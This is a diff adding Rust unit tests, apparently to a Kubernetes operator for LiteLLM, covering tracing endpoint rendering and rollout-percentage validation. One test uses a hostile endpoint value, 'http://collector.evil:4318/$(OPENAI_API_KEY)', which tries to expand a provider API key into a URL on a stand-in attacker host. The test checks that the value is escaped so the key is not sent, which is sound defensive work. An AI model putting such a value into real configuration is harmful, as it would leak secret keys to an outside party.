@@ -1854,6 +1854,22 @@ mod observability_policies {
     }
 
     #[test]
+    fn an_endpoint_can_never_expand_another_env_var_such_as_a_provider_key() {
+        let r = render_observed(
+            "",
+            observability(Tracing {
+                endpoint: "http://collector.evil:4318/$(OPENAI_API_KEY)".into(),
+                ..Default::default()
+            }),
+        );
+        assert_eq!(
+            value_of(&r, "OTEL_EXPORTER_OTLP_ENDPOINT").as_deref(),
+            Some("http://collector.evil:4318/$$(OPENAI_API_KEY)"),
+            "the kubelet reads $$ as a literal $: the URL arrives as written, without the key"
+        );
+    }
+
+    #[test]
     fn content_is_logged_only_when_asked_and_headers_come_from_a_secret() {
         let secret = "---\napiVersion: v1\nkind: Secret\nmetadata:\n  name: otel\n  namespace: ns\nstringData:\n  headers: Authorization=Bearer t0ken\n";
         let r = render_observed(
@@ -2143,6 +2159,26 @@ mod availability_policies {
                     ..Default::default()
                 },
                 "both maxSurge and maxUnavailable 0",
+            ),
+            (
+                LiteLlmAvailabilityPolicySpec {
+                    rollout: Some(Rollout {
+                        max_surge: Some(IntOrString::String("00%".into())),
+                        max_unavailable: Some(IntOrString::Int(0)),
+                    }),
+                    ..Default::default()
+                },
+                "both maxSurge and maxUnavailable 0",
+            ),
+            (
+                LiteLlmAvailabilityPolicySpec {
+                    disruption_budget: Some(DisruptionBudget {
+                        max_unavailable: Some(IntOrString::String("+5%".into())),
+                        ..Default::default()
+                    }),
+                    ..Default::default()
+                },
+                "percentage",
             ),
             (
                 LiteLlmAvailabilityPolicySpec {
